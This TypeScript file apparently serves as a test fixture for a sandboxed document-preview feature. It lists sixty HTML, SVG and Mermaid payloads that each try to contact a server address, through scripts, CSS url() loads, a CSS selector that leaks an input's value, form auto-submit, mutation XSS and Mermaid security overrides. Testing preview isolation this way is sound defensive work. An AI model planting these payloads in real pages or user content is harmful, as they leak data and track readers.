/** A text that tries to reach `/<name>` of a server, each by one way. */
export interface HostilePreview {
  name: string;
  kind: 'html' | 'svg' | 'mermaid';
  /** @param at the address that it tries to reach, or a part of it */
  text: (at: string) => string;
  /** It succeeds in a page of its own that nothing protects, as soon as it is shown. */
  works?: true;
}

const html = (name: string, text: HostilePreview['text'], works?: true): HostilePreview => ({
  name,
  kind: 'html',
  text,
  works,
});
const svg = (name: string, inner: HostilePreview['text'], works?: true): HostilePreview => ({
  name,
  kind: 'svg',
  text: (at) =>
    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 90 90">` +
    `<rect width="90" height="90" fill="teal"/>${inner(at)}</svg>`,
  works,
});
const mermaid = (name: string, text: HostilePreview['text']): HostilePreview => ({ name, kind: 'mermaid', text });
const script = (code: string): string => `<script>${code}</script>`;
const TOUCH = `try{parent.touched=1}catch(e){}try{top.touched=1}catch(e){}`;

/** Sixty ways out of a preview. */
export const HOSTILE_PREVIEWS: readonly HostilePreview[] = [
  html('fetch', (at) => script(`${TOUCH}fetch('${at}',{mode:'no-cors'})`), true),
  html('xhr', (at) => script(`x=new XMLHttpRequest;x.open('GET','${at}');x.send()`), true),
  html('beacon', (at) => script(`navigator.sendBeacon('${at}')`), true),
  html('websocket', (at) => script(`new WebSocket('${at}'.replace('http','ws'))`), true),
  html('event-source', (at) => script(`new EventSource('${at}')`), true),
  html('image', (at) => `<img src="${at}">`, true),
  html('srcset', (at) => `<img srcset="${at} 2x" src="">`),
  html('picture', (at) => `<picture><source srcset="${at}"><img></picture>`, true),
  html('image-error', (at) => `<img src=x: onerror="${TOUCH}new Image().src='${at}'">`, true),
  html('script', (at) => `<script src="${at}"></script>`, true),
  html('module', (at) => `<script type="module">import '${at}'</script>`, true),
  html('worker', (at) => script(`new Worker(URL.createObjectURL(new Blob(["importScripts('${at}')"])))`), true),
  html('stylesheet', (at) => `<link rel="stylesheet" href="${at}">`, true),
  html('import', (at) => `<style>@import url("${at}");</style>`, true),
  html('background', (at) => `<style>body{background:url(${at})}</style>`, true),
  html('inline-style', (at) => `<p style="background-image:url('${at}')">x</p>`, true),
  html('image-set', (at) => `<p style="background-image:image-set('${at}' 1x)">x</p>`, true),
  html('cursor', (at) => `<style>*{cursor:url(${at}),auto}</style><p>x</p>`),
  html('font', (at) => `<style>@font-face{font-family:f;src:url(${at})}*{font-family:f}</style><p>x</p>`, true),
  html('content', (at) => `<style>p::after{content:url(${at})}</style><p>x</p>`, true),
  html('list-style', (at) => `<ul style="list-style-image:url(${at})"><li>x</ul>`, true),
  html('selector', (at) => `<style>input[value^=s]{background:url(${at})}</style><input value="secret">`, true),
  html('preload', (at) => `<link rel="preload" as="image" href="${at}">`, true),
  html('prefetch', (at) => `<link rel="prefetch" href="${at}">`),
  html('modulepreload', (at) => `<link rel="modulepreload" href="${at}">`, true),
  html('preconnect', (at) => `<link rel="preconnect" href="${at}"><link rel="dns-prefetch" href="${at}">`),
  html('icon', (at) => `<link rel="icon" href="${at}">`),
  html('manifest', (at) => `<link rel="manifest" href="${at}">`),
  html('frame', (at) => `<iframe src="${at}"></iframe>`, true),
  html('srcdoc', (at) => `<iframe srcdoc="<img src='${at}'>"></iframe>`, true),
  html('object', (at) => `<object data="${at}"></object>`, true),
  html('embed', (at) => `<embed src="${at}">`, true),
  html('video', (at) => `<video src="${at}" poster="${at}" autoplay preload="auto"></video>`, true),
  html('audio', (at) => `<audio src="${at}" autoplay preload="auto"></audio>`, true),
  html('refresh', (at) => `<meta http-equiv="refresh" content="0;url=${at}">`, true),
  html('location', (at) => script(`location='${at}'`), true),
  html('top', (at) => script(`top.location='${at}'`)),
  html('open', (at) => script(`open('${at}')`)),
  html('form', (at) => `<form id="f" action="${at}"><button>Send</button></form>${script('f.submit()')}`, true),
  html('link', (at) => `<a href="${at}">Open</a>`),
  html('targets', (at) => `<a href="${at}" target="_top">Open</a><a href="${at}" target="_blank">Open</a>`),
  html('ping', (at) => `<a href="#" ping="${at}">Open</a>`),
  html('base', (at) => `<base href="${at}/"><img src="x"><a href="y">Open</a>`, true),
  html('shadow', (at) => `<p><template shadowrootmode="open"><img src="${at}"></template></p>`, true),
  html('mutation', (at) => `<math><mtext><table><mglyph><style><!--</style><img title="--><img src='${at}'>">`),
  html('peer', (at) =>
    script(
      `c=new RTCPeerConnection({iceServers:[{urls:'stun:'+new URL('${at}').host}]});` +
        `c.createDataChannel('x');c.createOffer().then(o=>c.setLocalDescription(o))`,
    ),
  ),
  svg('svg-script', (at) => `<script>${TOUCH}fetch('${at}')</script>`, true),
  svg('svg-onload', (at) => `<g><animate onbegin="new Image().src='${at}'" attributeName="x" dur="1s"/></g>`, true),
  svg('svg-image', (at) => `<image href="${at}" width="9" height="9"/>`, true),
  svg('svg-xlink', (at) => `<image xlink:href="${at}" width="9" height="9"/>`, true),
  svg('svg-use', (at) => `<use href="${at}#x"/>`),
  svg(
    'svg-filter',
    (at) => `<filter id="f"><feImage href="${at}"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
    true,
  ),
  svg('svg-style', (at) => `<style>@import url("${at}");</style>`, true),
  svg(
    'svg-foreign',
    (at) =>
      `<foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${at}"/></foreignObject>`,
    true,
  ),
  svg('svg-link', (at) => `<a href="${at}"><text y="20">Open</text></a>`),
  mermaid(
    'mermaid-click',
    (at) => `flowchart LR\n  a[Open] --> b\n  click a href "${at}" _blank\n  click b call fetch("${at}")`,
  ),
  mermaid('mermaid-html', (at) => `flowchart LR\n  a["<img src='${at}' onerror='fetch(&quot;${at}&quot;)'>"] --> b`),
  mermaid('mermaid-image', (at) => `flowchart LR\n  a@{ img: "${at}", label: "x", w: 60, h: 60 } --> b`),
  mermaid(
    'mermaid-init',
    (at) =>
      `%%{init: {"securityLevel": "loose", "htmlLabels": true, ` +
      `"themeCSS": "@import url(${at}); * { background: url(${at}) }"}}%%\n` +
      `flowchart LR\n  a["<script>fetch('${at}')</script>"] --> b`,
  ),
  mermaid(
    'mermaid-style',
    (at) => `flowchart LR\n  a --> b\n  style a fill:url(${at})\n  classDef x fill:url(${at})\n  class b x`,
  ),
];
